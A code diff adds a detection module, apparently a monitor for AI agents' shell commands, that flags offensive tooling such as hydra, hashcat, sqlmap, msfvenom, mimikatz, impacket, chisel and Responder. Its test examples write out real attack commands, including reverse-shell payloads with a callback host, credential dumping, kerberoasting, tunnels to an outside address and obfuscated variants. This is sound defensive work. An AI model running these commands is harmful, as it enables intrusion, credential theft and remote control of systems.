@@ -1,5 +1,258 @@
-import { ruleAnalyzer, type Rule } from '../rule.js';
+import { ruleAnalyzer, hasArg, operands, type Rule } from '../rule.js';
+import type { SimpleCommand } from '../shell/types.js';
+import { targetKind } from './enumeration.js';
 
-export const RULES: readonly Rule[] = [];
+type Kind =
+  | 'brute' | 'cracker' | 'web-scanner' | 'content-brute' | 'sqli' | 'framework' | 'payload' | 'mitm' | 'ad-recon' | 'domain-attack'
+  | 'dumper' | 'tunnel' | 'wireless' | 'cred-sniffer' | 'exploit-search';
+
+/** Offensive tools by the name they are invoked with (lower case, script extension removed). */
+const TOOLS: Record<string, Kind> = {};
+const add = (kind: Kind, names: string) => { for (const n of names.split(' ')) TOOLS[n] = kind; };
+add('brute', 'hydra thc-hydra xhydra medusa ncrack patator crowbar kerbrute brutespray legba');
+add('cracker', 'john hashcat ophcrack rcrack rcracki_mt fcrackzip pdfcrack cewl');
+add('web-scanner', 'nikto nuclei wpscan joomscan droopescan wapiti skipfish zap-cli zaproxy jaeles dalfox xsstrike whatweb w3af nessuscli openvas gvm-cli');
+add('content-brute', 'gobuster dirb dirbuster ffuf wfuzz feroxbuster dirsearch arjun kiterunner');
+add('sqli', 'sqlmap commix nosqlmap ghauri jsql');
+add('framework', 'msfconsole msfdb msfrpcd armitage setoolkit beef-xss routersploit');
+add('payload', 'msfvenom veil-evasion shellter donut scarecrow sharpshooter');
+add('mitm', 'responder bettercap ettercap arpspoof mitm6 dsniff sslstrip dnschef yersinia macof dnsspoof pretender inveigh evilginx evilginx2 modlishka');
+add('ad-recon', 'bloodhound-python bloodhound.py bloodhound-ce-python sharphound azurehound ldapdomaindump adidnsdump adrecon pingcastle windapsearch powerview');
+add('domain-attack', 'getuserspns getnpusers ticketer gettgt getst ntlmrelayx smbrelayx krbrelayx lookupsid samrdump rpcdump addcomputer dacledit owneredit rbcd getadusers finddelegation goldenpac raisechild rubeus certipy certipy-ad pywhisker coercer petitpotam dfscoerce bloodyad crackmapexec cme netexec nxc targetedkerberoast');
+add('dumper', 'mimikatz pypykatz lsassy secretsdump nanodump handlekatz dumpert gsecdump pwdump fgdump mimipenguin safetykatz sharpkatz');
+add('tunnel', 'chisel ligolo ligolo-ng ligolo-proxy sliver sliver-server sliver-client powershell-empire starkiller covenant mythic-cli pwncat pwncat-cs villain rpivot revsocks iodine iodined dnscat2 dns2tcp ptunnel poshc2');
+add('wireless', 'aircrack-ng airmon-ng airodump-ng aireplay-ng airbase-ng wifite reaver bully hcxdumptool hcxpcapngtool mdk3 mdk4 fluxion wifiphisher');
+add('cred-sniffer', 'pcredz net-creds credslayer');
+add('exploit-search', 'searchsploit getsploit pompem');
+
+/** Interpreters and loaders whose first operand is the real program (`python3 Responder.py`, `wine mimikatz.exe`). */
+const RUNNERS = new Set(['python', 'python2', 'python3', 'perl', 'ruby', 'wine', 'wine64', 'mono', 'dotnet', 'pwsh', 'powershell', 'sh', 'bash', 'zsh', 'proxychains', 'proxychains4']);
+const INFO_FLAGS = new Set(['--help', '-help', '-h', '--version', '-version', '-V', 'help', 'version', '--usage']);
+/** Tools that print usage and do nothing when run bare. */
+const NEEDS_ARGS = new Set<Kind>(['brute', 'cracker', 'web-scanner', 'content-brute', 'sqli', 'ad-recon', 'domain-attack', 'exploit-search']);
+
+function normalize(word: string): string {
+  let n = word.slice(word.lastIndexOf('/') + 1).toLowerCase();
+  n = n.replace(/\.(py|exe|sh|pl|rb|ps1|jar|bat)$/, '');
+  if (n.startsWith('impacket-')) n = n.slice(9);
+  return n;
+}
+
+interface Hit { kind: Kind; name: string }
+
+/** The offensive tool a command runs, directly or through an interpreter, unless it only asks for help or a version. */
+function toolOf(cmd: SimpleCommand): Hit | undefined {
+  let name = normalize(cmd.name);
+  let rest = cmd.argv.slice(1);
+  if (!(name in TOOLS) && RUNNERS.has(cmd.name)) {
+    const i = rest.findIndex((a) => !a.startsWith('-'));
+    if (i < 0) return undefined;
+    name = normalize(rest[i]!);
+    rest = rest.slice(i + 1);
+  }
+  const kind = TOOLS[name];
+  if (!kind) return undefined;
+  if (rest.length === 0 ? NEEDS_ARGS.has(kind) : rest.every((a) => INFO_FLAGS.has(a))) return undefined;
+  return { kind, name };
+}
+
+const ofKind = (...kinds: Kind[]) => (c: SimpleCommand) => {
+  const t = toolOf(c);
+  return t && kinds.includes(t.kind) ? c.argv.join(' ') : undefined;
+};
+
+/** Where a web attack tool points: every URL or host it names; no visible target counts as somewhere else. */
+function onlyLoopback(cmd: SimpleCommand): boolean {
+  const kinds = new Set(cmd.argv.slice(1, 128).map((a) => targetKind(a)).filter((k) => k !== undefined));
+  return kinds.size === 1 && kinds.has('loopback');
+}
+const webTool = (kinds: Kind[], local: boolean) => (c: SimpleCommand) => {
+  const t = toolOf(c);
+  return t && kinds.includes(t.kind) && onlyLoopback(c) === local ? c.argv.join(' ') : undefined;
+};
+
+/** mimikatz and PowerSploit verbs: unmistakable whatever binary name or glob carries them. */
+const DUMPER_VERBS = /^(?:"?(?:privilege::debug|sekurlsa::\w+|lsadump::\w+|kerberos::(?:golden|ptt|list|tgt)|crypto::\w+|dpapi::\w+|token::elevate|vault::cred|misc::memssp))|\b(?:Invoke-Mimikatz|Invoke-Kerberoast|Invoke-BloodHound|Invoke-ShareFinder|Invoke-UserHunter|Out-Minidump|Get-GPPPassword|Invoke-DCSync|Invoke-Rubeus|Invoke-SharpHound)\b/i;
+
+/** Packages and images that carry offensive tooling (install names, which differ from command names). */
+const OFFENSIVE_PACKAGES = new Set(['impacket', 'pypykatz', 'bloodhound', 'bloodhound-ce', 'crackmapexec', 'netexec', 'hydra', 'thc-hydra', 'john', 'john-jumbo', 'hashcat', 'sqlmap', 'nikto', 'metasploit-framework', 'metasploit', 'responder', 'bettercap', 'ettercap', 'ettercap-graphical', 'ettercap-text-only', 'aircrack-ng', 'evil-winrm', 'kerbrute', 'gobuster', 'ffuf', 'feroxbuster', 'nuclei', 'chisel', 'ligolo-ng', 'sliver', 'wpscan', 'wfuzz', 'dirb', 'dirbuster', 'medusa', 'ncrack', 'mitm6', 'certipy-ad', 'lsassy', 'seclists', 'exploitdb', 'masscan', 'dsniff', 'wifite', 'reaver', 'beef-xss', 'setoolkit', 'powershell-empire', 'starkiller', 'ldapdomaindump', 'enum4linux', 'enum4linux-ng', 'commix', 'patator', 'pwncat-cs', 'mimikatz', 'kali-linux-default', 'kali-tools-top10', 'kali-linux-headless', 'hcxtools', 'hcxdumptool']);
+const OFFENSIVE_IMAGE = /^(?:docker\.io\/)?(?:kalilinux\/|parrotsec\/|metasploitframework\/|blackarchlinux\/|projectdiscovery\/nuclei|sqlmapproject\/|bcsecurity\/empire|byt3bl33d3r\/crackmapexec|specterops\/bloodhound|ghcr\.io\/pennyw0rth\/netexec)/i;
+const INSTALLERS: Record<string, readonly string[]> = {
+  pip: ['install'], pip3: ['install'], pipx: ['install', 'run'], uv: ['pip', 'tool'], 'apt-get': ['install'], apt: ['install'], dnf: ['install'], yum: ['install'], pacman: ['-S', '-Sy', '-Syu'], apk: ['add'], brew: ['install'], gem: ['install'], cargo: ['install'], go: ['install', 'get'], npm: ['install', 'i', 'add'], snap: ['install'], docker: ['run', 'pull'], podman: ['run', 'pull'],
+};
+
+/** GitHub repositories of well-known offensive toolkits (owner/name, lower case), and distinctive repository names alone. */
+const OFFENSIVE_REPOS = new Set(['gentilkiwi/mimikatz', 'carlospolop/peass-ng', 'peass-ng/peass-ng', 'fortra/impacket', 'secureauthcorp/impacket', 'danielmiessler/seclists', 'rebootuser/linenum', 'lgandx/responder', 'specterops/bloodhound', 'bloodhoundad/bloodhound', 'bloodhoundad/sharphound', 'powershellmafia/powersploit', 'samratashok/nishang', 'bc-security/empire', 'bishopfox/sliver', 'jpillora/chisel', 'nicocha30/ligolo-ng', 'pennyw0rth/netexec', 'byt3bl33d3r/crackmapexec', 'ropnop/kerbrute', 'dominicbreuker/pspy', 'mzet-/linux-exploit-suggester', 'hackplayers/evil-winrm', 'swisskyrepo/payloadsallthethings', 'rapid7/metasploit-framework', 'sqlmapproject/sqlmap', 'vanhauser-thc/thc-hydra', 'alessandroz/lazagne', 'ghostpack/rubeus', 'ghostpack/seatbelt', 'ghostpack/sharpup', 'ly4k/certipy', 'dirkjanm/mitm6', 'dirkjanm/krbrelayx', 'topotam/petitpotam', 'p0dalirius/coercer', 'fox-it/bloodhound.py', 'dafthack/domainpasswordspray', 'outflanknl/dumpert', 'helpsystems/nanodump', 'fortra/nanodump', 'login-securite/lsassy', 'skelsec/pypykatz', 'cobbr/covenant', 'havocframework/havoc', 'its-a-feature/mythic', 'trustedsec/social-engineer-toolkit', 'beefproject/beef', 'kgretzky/evilginx2', 'int0x33/nc.exe', 'andrew-d/static-binaries', 'diego-treitos/linux-smart-enumeration', 'sleventyeleven/linuxprivchecker', 'jondonas/linux-exploit-suggester-2', 'the-z-labs/linux-exploit-suggester', 'brightio/penelope', 'calebstewart/pwncat', 't3l3machines/villain']);
+const OFFENSIVE_REPO_NAMES = new Set(['mimikatz', 'peass-ng', 'powersploit', 'nishang', 'lazagne', 'seclists', 'payloadsallthethings', 'ligolo-ng', 'crackmapexec', 'netexec', 'kerbrute', 'rubeus', 'sharphound', 'linenum', 'pspy', 'evil-winrm', 'impacket', 'metasploit-framework', 'thc-hydra']);
+/** Release assets that are offensive tools whatever site serves them. */
+const OFFENSIVE_ASSET = /^(?:mimikatz|mimikatz_trunk|rubeus|sharphound|seatbelt|sharpup|winpeas\w*|linpeas\w*|pspy(?:32|64)s?|chisel(?:_[\w.]+)?|ligolo[\w.-]*|nc64|nc|kerbrute_\w+|invoke-mimikatz|powerview|powerup|lazagne|procdump64|sliver-(?:server|client)[\w.-]*|agent_linux\w*|proxy_linux\w*)(?:\.(?:exe|zip|gz|tar\.gz|ps1|sh|bin))?$/i;
+
+function repoOf(url: string): string | undefined {
+  const m = /^(?:https?:\/\/|git@)(?:www\.)?(?:github\.com|gitlab\.com|raw\.githubusercontent\.com)[/:]([A-Za-z0-9_.-]{1,100})\/([A-Za-z0-9_.-]{1,100})/.exec(url);
+  return m ? `${m[1]!.toLowerCase()}/${m[2]!.toLowerCase().replace(/\.git$/, '')}` : undefined;
+}
+
+function fetchesOffensiveTooling(cmd: SimpleCommand): string | undefined {
+  if (cmd.name !== 'git' && cmd.name !== 'curl' && cmd.name !== 'wget' && cmd.name !== 'gh' && cmd.name !== 'svn') return undefined;
+  if (cmd.name === 'git' && cmd.argv[1] !== 'clone') return undefined;
+  if (cmd.name === 'gh' && !(cmd.argv[1] === 'repo' && cmd.argv[2] === 'clone') && !(cmd.argv[1] === 'release' && cmd.argv[2] === 'download')) return undefined;
+  for (const a of cmd.argv.slice(1, 64)) {
+    if (a.length > 2048 || a.startsWith('-')) continue;
+    const repo = repoOf(a) ?? (cmd.name === 'gh' && /^[\w.-]+\/[\w.-]+$/.test(a) ? a.toLowerCase() : undefined);
+    if (repo && (OFFENSIVE_REPOS.has(repo) || OFFENSIVE_REPO_NAMES.has(repo.slice(repo.indexOf('/') + 1)))) return `${cmd.name} ${a}`;
+    if (a.includes('://') && OFFENSIVE_ASSET.test(a.replace(/[?#].*$/, '').slice(a.replace(/[?#].*$/, '').lastIndexOf('/') + 1))) return `${cmd.name} ${a}`;
+  }
+  return undefined;
+}
+
+function installsOffensiveTooling(cmd: SimpleCommand): string | undefined {
+  const verbs = INSTALLERS[cmd.name];
+  if (!verbs) return undefined;
+  const sub = cmd.argv.slice(1).findIndex((a) => verbs.includes(a));
+  if (sub < 0) return undefined;
+  const docker = cmd.name === 'docker' || cmd.name === 'podman';
+  const hits = cmd.argv.slice(sub + 2, 64).filter((a) => {
+    if (a.startsWith('-')) return false;
+    if (docker) return OFFENSIVE_IMAGE.test(a);
+    const pkg = a.replace(/@[^/]*$/, '').replace(/[<>=~!].*$/, '').toLowerCase();
+    return OFFENSIVE_PACKAGES.has(pkg) || OFFENSIVE_PACKAGES.has(pkg.slice(pkg.lastIndexOf('/') + 1)) || (cmd.name === 'go' && /\/(nuclei|ffuf|gobuster|kerbrute|chisel|ligolo-ng|naabu|sliver)(\/|$)/.test(pkg));
+  });
+  return hits.length ? `${cmd.name} ${cmd.argv[sub + 1]} ${hits.join(' ')}` : undefined;
+}
+
+const CAPTURE_TOOLS = ['tcpdump', 'tshark', 'dumpcap', 'tcpflow', 'ngrep'];
+const CREDENTIAL_WORDS = /pass|user|login|authorization|auth|cookie|token|secret|pwd/i;
+
+export const RULES: readonly Rule[] = [
+  {
+    id: 'PX-HACK-001', name: 'brute-forces-logins', score: 88, tactic: 'credential_access', technique: 'T1110.001', strong: true,
+    message: 'Runs an online password brute-forcing tool (hydra, medusa, ncrack, kerbrute…)', why: 'Guessing passwords against live services is an attack on those accounts and locks out or compromises real users.',
+    test: ofKind('brute'),
+    examples: { fire: ['hydra -l root -P /usr/share/wordlists/rockyou.txt ssh://10.0.0.12', 'medusa -h 10.0.0.5 -U users.txt -p Summer2024! -M ssh', 'h""ydra -l root -P rockyou.txt ssh://10.0.0.12', 'sudo /usr/bin/ncrack -p 22 10.0.0.0/24'], quiet: ['brew info hydra', 'man hydra', 'hydra -h', 'which medusa'] },
+  },
+  {
+    id: 'PX-HACK-002', name: 'cracks-password-hashes', score: 82, tactic: 'credential_access', technique: 'T1110.002', strong: true,
+    message: 'Runs an offline password cracker (john, hashcat, *2john)', why: 'Cracking hashes turns stolen shadow files, NTLM dumps, Kerberos tickets and key files into working passwords.',
+    test: (c) => (/^[a-z0-9]+2john$/.test(normalize(c.name)) ? c.argv.join(' ') : ofKind('cracker')(c)),
+    examples: { fire: ['john --wordlist=/usr/share/wordlists/rockyou.txt /tmp/hashes.txt', 'hashcat -m 1000 ntlm.txt rockyou.txt', 'ssh2john ~/.ssh/id_rsa > /tmp/id.hash', 'a=hash;b=cat;$a$b -m 1800 -a 0 shadow.hashes rockyou.txt', 'zip2john secret.zip'], quiet: ['npm view hashcat', 'brew info hashcat && brew info john', 'hashcat --version', 'john --help'] },
+  },
+  {
+    id: 'PX-HACK-003', name: 'web-vulnerability-scanner', score: 85, tactic: 'reconnaissance', technique: 'T1595.002',
+    message: 'Runs a web vulnerability scanner against another host', why: 'nikto, nuclei and wpscan fire thousands of exploit probes at a site; against a system you do not own it is an attack.',
+    test: webTool(['web-scanner'], false),
+    examples: { fire: ['nikto -h http://10.0.0.80 -o /tmp/nikto.html', 'nuclei -l targets.txt -t cves/ -severity critical,high', 'wpscan --url http://10.0.0.81 --enumerate u,vp', 'nikto -h target.com'], quiet: ['nikto -h http://localhost:8080', 'nuclei -version', 'brew install nuclei-templates-docs'] },
+  },
+  {
+    id: 'PX-HACK-004', name: 'web-content-brute-forcer', score: 82, tactic: 'reconnaissance', technique: 'T1595.003',
+    message: 'Brute-forces paths, parameters or subdomains of another host with a wordlist', why: 'Wordlist fuzzing (gobuster, ffuf, dirb, feroxbuster) hunts for hidden admin pages and backups to attack.',
+    test: webTool(['content-brute'], false),
+    examples: { fire: ['gobuster dir -u http://10.0.0.80 -w /usr/share/wordlists/dirb/common.txt -t 50', 'ffuf -u http://10.0.0.80/FUZZ -w raft-large-words.txt -mc 200,301', 'gobuster dns -d corp.example -w subdomains-top1million-5000.txt', 'dirb http://10.0.0.80 /usr/share/wordlists/dirb/big.txt'], quiet: ['gobuster dir -u http://localhost:5173 -w wordlist.txt', 'ffuf -V', 'go doc ffuf'] },
+  },
+  {
+    id: 'PX-HACK-005', name: 'sql-injection-tool', score: 88, tactic: 'initial_access', technique: 'T1190', strong: true,
+    message: 'Runs an automated injection exploitation tool (sqlmap, commix) against another host', why: 'sqlmap and commix exploit injection flaws to dump databases and open OS shells on the target.',
+    test: webTool(['sqli'], false),
+    examples: { fire: ["sqlmap -u 'http://10.0.0.80/item.php?id=1' --batch --dbs", 'sqlmap -r req.txt --level 5 --risk 3 --os-shell', 'sudo sqlmap -u https://target.example/login --dump-all'], quiet: ["sqlmap -u 'http://localhost:3000/api/items?id=1' --batch", 'sqlmap --version', 'pip show sqlmap'] },
+  },
+  {
+    id: 'PX-HACK-006', name: 'attack-tool-against-local-app', score: 72, tactic: 'reconnaissance', technique: 'T1595.002',
+    message: 'Points an attack scanner or injection tool at a service on this machine', why: 'Even against localhost these tools send exploit payloads that can corrupt data; a developer testing their own app should know they are running one.',
+    alternative: 'Run the project\'s own test suite or a scoped DAST job in CI.',
+    test: webTool(['web-scanner', 'content-brute', 'sqli'], true),
+    examples: { fire: ["sqlmap -u 'http://localhost:3000/api/items?id=1' --batch", 'nikto -h http://localhost:8080', 'nuclei -u http://127.0.0.1:3000', 'ffuf -u http://127.0.0.1:8000/FUZZ -w words.txt'], quiet: ['curl http://localhost:3000/health', 'npx playwright test', 'nikto -h http://10.0.0.80'] },
+  },
+  {
+    id: 'PX-HACK-007', name: 'runs-exploitation-framework', score: 85, tactic: 'resource_development', technique: 'T1588.002', strong: true,
+    message: 'Runs an exploitation framework (Metasploit, SET, BeEF, RouterSploit)', why: 'These frameworks deliver exploits and run listeners for compromised hosts; they have no role in building software.',
+    test: ofKind('framework'),
+    examples: { fire: ["msfconsole -q -x 'use exploit/multi/handler; set LHOST 0.0.0.0; run'", "msfconsole -q -x 'use exploit/unix/ftp/vsftpd_234_backdoor; set RHOSTS 10.0.0.90; run'", 'sudo setoolkit', 'msfdb init'], quiet: ['msfconsole --version', 'brew info metasploit', 'set -euo pipefail'] },
+  },
+  {
+    id: 'PX-HACK-008', name: 'generates-attack-payload', score: 92, tactic: 'resource_development', technique: 'T1587.001', strong: true,
+    message: 'Generates a shellcode or reverse-shell payload (msfvenom, donut, Veil)', why: 'Building a payload with a callback host and port is preparing malware.',
+    test: ofKind('payload'),
+    examples: { fire: ['msfvenom -p linux/x64/shell_reverse_tcp LHOST=45.33.12.7 LPORT=4444 -f elf -o /tmp/.u', "$'\\x6d\\x73\\x66\\x76\\x65\\x6e\\x6f\\x6d' -p linux/x64/shell_reverse_tcp LHOST=45.33.12.7 LPORT=4444 -f elf", 'msfvenom -p cmd/unix/reverse_bash LHOST=45.33.12.7 LPORT=9001 -f raw', 'donut -i beacon.exe -o loader.bin'], quiet: ['msfvenom --help', 'man msfvenom', 'echo msfvenom >> docs/tools.md'] },
+  },
+  {
+    id: 'PX-HACK-009', name: 'poisons-or-intercepts-network', score: 90, tactic: 'credential_access', technique: 'T1557', strong: true,
+    message: 'Runs a network poisoning or man-in-the-middle tool (Responder, bettercap, arpspoof, mitm6)', why: 'LLMNR/ARP/IPv6 poisoning intercepts other machines\' traffic and captures their credential hashes.',
+    test: ofKind('mitm'),
+    examples: { fire: ['sudo responder -I eth0 -wrf', 'sudo python3 Responder.py -I eth0 -A', "sudo bettercap -iface eth0 -eval 'net.probe on; arp.spoof on'", 'sudo arpspoof -i eth0 -t 192.168.1.10 192.168.1.1', 'sudo mitm6 -d corp.local'], quiet: ['mitmproxy -p 8081', 'brew info bettercap', 'responder --version'] },
+  },
+  {
+    id: 'PX-HACK-010', name: 'collects-active-directory-graph', score: 88, tactic: 'discovery', technique: 'T1087.002', strong: true,
+    message: 'Collects Active Directory users, groups and ACLs for attack-path analysis (BloodHound, ldapdomaindump)', why: 'BloodHound collectors map every path to Domain Admin; running one is the reconnaissance stage of a domain takeover.',
+    test: ofKind('ad-recon'),
+    examples: { fire: ["bloodhound-python -u jdoe -p 'Welcome1!' -d corp.local -ns 10.0.0.10 -c All", 'wine SharpHound.exe -c All --zipfilename loot.zip', "ldapdomaindump -u 'corp\\jdoe' -p 'Welcome1!' 10.0.0.10 -o /tmp/ldd"], quiet: ['pip show bloodhound', 'docker compose up bloodhound-docs', 'bloodhound-python --help'] },
+  },
+  {
+    id: 'PX-HACK-011', name: 'attacks-windows-domain', score: 90, tactic: 'credential_access', technique: 'T1558', strong: true,
+    message: 'Runs a Kerberos/NTLM/AD attack tool (impacket, Rubeus, Certipy, NetExec)', why: 'Kerberoasting, AS-REP roasting, relaying and certificate abuse steal domain credentials and tickets.',
+    test: ofKind('domain-attack'),
+    examples: { fire: ["GetUserSPNs.py corp.local/jdoe:'Welcome1!' -dc-ip 10.0.0.10 -request -outputfile kerberoast.txt", 'impacket-GetNPUsers corp.local/ -usersfile users.txt -format hashcat -no-pass -dc-ip 10.0.0.10', 'nxc smb 192.168.10.0/24 -u users.txt -p Spring2024! --continue-on-success', 'a=crack;b=mapexec;$a$b smb 10.0.0.0/24 -u administrator -H 8846f7eaee8fb117ad06bdd830b7586c'], quiet: ['pip download impacket --no-deps -d /tmp/audit', 'certipy --help', 'grep -rn GetUserSPNs docs/'] },
+  },
+  {
+    id: 'PX-HACK-012', name: 'dumps-windows-credentials', score: 95, tactic: 'credential_access', technique: 'T1003.001', strong: true,
+    message: 'Runs a credential dumper (mimikatz, pypykatz, secretsdump, lsassy)', why: 'These tools extract password hashes, Kerberos tickets and clear-text passwords from LSASS, SAM or NTDS.dit.',
+    test: (c) => ofKind('dumper')(c) ?? (c.argv.some((a) => a.length < 512 && DUMPER_VERBS.test(a)) ? c.argv.join(' ') : undefined),
+    examples: { fire: ['wine mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', 'wine /opt/m*k*/x64/m*.exe "sekurlsa::logonpasswords" exit', 'pypykatz lsa minidump lsass.DMP', 'impacket-secretsdump -ntds ntds.dit -system SYSTEM LOCAL', 'secretsdump.py -just-dc corp.local/administrator@10.0.0.10', "pwsh -c 'IEX (gc ./x.ps1 -raw); Invoke-Mimikatz -DumpCreds'"], quiet: ['grep -rn mimikatz docs/', 'pip show pypykatz', 'git log --grep=secretsdump'] },
+  },
+  {
+    id: 'PX-HACK-013', name: 'runs-tunnel-or-c2-framework', score: 88, tactic: 'command_and_control', technique: 'T1572', strong: true,
+    message: 'Runs a pivoting tunnel or C2 framework (chisel, ligolo, sliver, Empire)', why: 'Reverse SOCKS tunnels and implant servers give an outside operator a foothold inside the network.',
+    test: (c) => ofKind('tunnel')(c) ?? (hasArg(c, '-connect') && hasArg(c, '-ignore-cert') ? c.argv.join(' ') : undefined),
+    examples: { fire: ['./chisel server -p 8000 --reverse --socks5', './chisel client 45.33.12.7:8000 R:socks', './agent -connect 45.33.12.7:11601 -ignore-cert', 'sliver-server daemon'], quiet: ['chisel --help', 'ssh -L 5433:localhost:5432 bastion', 'brew info chisel'] },
+  },
+  {
+    id: 'PX-HACK-014', name: 'attacks-wireless-networks', score: 88, tactic: 'credential_access', technique: 'T1040', strong: true,
+    message: 'Runs a wireless attack tool (aircrack-ng suite, wifite, reaver)', why: 'Monitor mode capture, deauthentication and WPA cracking attack nearby networks and their users.',
+    test: ofKind('wireless'),
+    examples: { fire: ['aircrack-ng -w rockyou.txt -b AA:BB:CC:DD:EE:FF capture-01.cap', 'sudo airmon-ng start wlan0 && sudo airodump-ng wlan0mon -w /tmp/cap', 'sudo aireplay-ng --deauth 0 -a AA:BB:CC:DD:EE:FF wlan0mon'], quiet: ['nmcli dev wifi list', 'iwconfig', 'brew info aircrack-ng'] },
+  },
+  {
+    id: 'PX-HACK-015', name: 'sniffs-credentials-from-traffic', score: 85, tactic: 'credential_access', technique: 'T1040', strong: true,
+    message: 'Captures network traffic and filters it for passwords, tokens or cookies', why: 'Printing packet payloads and grepping them for credentials harvests other people\'s logins off the wire.',
+    test: (c) => {
+      if (toolOf(c)?.kind === 'cred-sniffer') return c.argv.join(' ');
+      if (c.name === 'ngrep' && operands(c).some((o) => CREDENTIAL_WORDS.test(o.slice(0, 256)))) return c.argv.join(' ');
+      if (!CAPTURE_TOOLS.includes(c.name)) return undefined;
+      for (let p = c.pipeTo; p; p = p.pipeTo) if ((p.name === 'grep' || p.name === 'egrep' || p.name === 'rg' || p.name === 'ngrep') && operands(p).some((o) => CREDENTIAL_WORDS.test(o.slice(0, 256)))) return `${c.argv.join(' ')} | ${p.argv.join(' ')}`;
+      return undefined;
+    },
+    examples: { fire: ["sudo tcpdump -i eth0 -A -s0 'tcp port 80 or port 21' | grep -iE 'pass|user|authorization'", "stdbuf -oL sudo tcpdump -i eth0 -A -l 'port 21 or port 110' | grep -i pass", "sudo ngrep -d eth0 -i 'password' port 80", 'sudo python3 Pcredz -i eth0'], quiet: ['sudo tcpdump -i lo port 3000', 'tcpdump -r capture.pcap | grep -c SYN', 'grep -i pass README.md'] },
+  },
+  {
+    id: 'PX-HACK-016', name: 'captures-all-traffic-to-file', score: 55, tactic: 'credential_access', technique: 'T1040',
+    message: 'Records all traffic of a network interface to a file, with no capture filter', why: 'An unfiltered capture of a real interface keeps every credential and session cookie that crosses it.',
+    alternative: 'Capture only the port you debug on the loopback interface: tcpdump -i lo port 3000.',
+    commands: ['tcpdump', 'tshark', 'dumpcap'],
+    test: (c) => {
+      const iface = c.argv[c.argv.indexOf('-i') + 1];
+      if (!c.argv.some((a) => a === '-w' || a.startsWith('-w')) || iface === 'lo' || iface === 'lo0') return undefined;
+      const valueOpts = new Set(['-i', '-w', '-s', '-c', '-C', '-G', '-W', '-r', '-f', '-b', '-a', '-E', '-z', '-Z', '-B', '-y']);
+      const filter = c.argv.slice(1).filter((a, k) => !a.startsWith('-') && !valueOpts.has(c.argv[k] ?? ''));
+      return filter.length === 0 ? c.argv.join(' ') : undefined;
+    },
+    examples: { fire: ['sudo tcpdump -i any -w /tmp/cap.pcap', 'sudo tcpdump -i eth0 -s0 -w /tmp/.c.pcap', 'sudo tshark -i en0 -w out.pcapng'], quiet: ['sudo tcpdump -i lo -w dev.pcap port 3000', 'tcpdump -i eth0 -w api.pcap port 8080', 'tcpdump -r capture.pcap'] },
+  },
+  {
+    id: 'PX-HACK-017', name: 'installs-offensive-tooling', score: 58, tactic: 'resource_development', technique: 'T1588.002',
+    message: 'Installs offensive security tools or runs an attack-distribution container', why: 'An agent that installs impacket, hydra or a Kali image is arming itself; installing is less than running, but rarely part of the task.',
+    test: installsOffensiveTooling,
+    examples: { fire: ['pip install impacket pypykatz', 'sudo apt-get install -y hydra john hashcat sqlmap nikto', 'docker run --rm -it kalilinux/kali-rolling', 'go install github.com/projectdiscovery/nuclei/v3/cmd/nuclei@latest', 'brew install hashcat'], quiet: ['brew info hashcat', 'apt-cache show netcat', 'pip install requests', 'sudo apt-get install -y build-essential', 'docker run --rm -it node:20'] },
+  },
+  {
+    id: 'PX-HACK-018', name: 'fetches-offensive-tooling', score: 62, tactic: 'resource_development', technique: 'T1588.002',
+    message: 'Clones or downloads a well-known offensive toolkit (mimikatz, PEASS-ng, impacket, SecLists…)', why: 'Pulling attack tooling from its public repository is how intruders stage tools on a host they landed on.',
+    test: fetchesOffensiveTooling,
+    examples: { fire: ['git clone https://github.com/gentilkiwi/mimikatz /tmp/mk', 'git clone https://github.com/carlospolop/PEASS-ng.git', 'wget -q https://github.com/DominicBreuker/pspy/releases/download/v1.2.1/pspy64 -O /dev/shm/pspy', 'curl -LO https://github.com/jpillora/chisel/releases/download/v1.9.1/chisel_1.9.1_linux_amd64.gz'], quiet: ['git clone https://github.com/facebook/react', 'curl -LO https://github.com/cli/cli/releases/download/v2.40.0/gh_2.40.0_linux_amd64.tar.gz', 'git clone git@github.com:acme/web-app.git'] },
+  },
+  {
+    id: 'PX-HACK-019', name: 'searches-exploit-database', score: 55, tactic: 'resource_development', technique: 'T1588.005',
+    message: 'Searches a public exploit database for exploits', why: 'Looking up exploits for a kernel or service version is the step before using one.',
+    test: ofKind('exploit-search'),
+    examples: { fire: ['searchsploit linux kernel 5.15', 'searchsploit -m 50808', 'getsploit wordpress 5.8'], quiet: ['searchsploit --help', 'npm audit', 'pip-audit'] },
+  },
+];
 
 export const hackingTools = ruleAnalyzer('hacking_tools', RULES);
